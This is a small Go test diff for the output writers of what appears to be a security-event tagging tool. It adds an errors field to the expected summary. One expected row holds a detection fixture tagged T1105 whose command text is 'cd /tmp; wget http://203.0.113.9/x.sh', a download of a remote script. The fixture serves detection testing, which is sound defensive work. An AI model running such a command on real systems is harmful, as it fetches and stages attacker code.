@@ -75,8 +75,8 @@ func write(t *testing.T, format string, o Options, acc *Account, batches ...[]en
 func TestWriters(t *testing.T) {
 	d, g := download(), guess()
 	dj, gj := fmt.Sprintf(downloadJSON, d.UUID), fmt.Sprintf(guessJSON, g.UUID)
-	acc := &Account{Files: 1, Lines: 2, Direct: 2, Events: 2, Tags: 2}
-	foot := `,"summary":` + string(acc.JSON()) + "}\n"
+	acc := &Account{Files: 1, Lines: 2, Direct: 2, Events: 2, Tags: 2, Errors: []string{"b.gz: truncated"}}
+	foot := `,"summary":` + string(acc.JSON()) + `,"errors":[{"message":"b.gz: truncated"}]}` + "\n"
 	header := strings.Join(tagColumns[:], ",") + "\n"
 	rows := d.UUID.String() + `,command,s1#cmd0,3a90f681-a007-5d06-8036-a9c1661decb1,,s1,,TA0011,T1105,,0.85,R0018,1,` +
 		`"{""command_text"":""cd /tmp; wget http://203.0.113.9/x.sh"",""matched"":""wget http://203.0.113.9/x.sh""}",` +
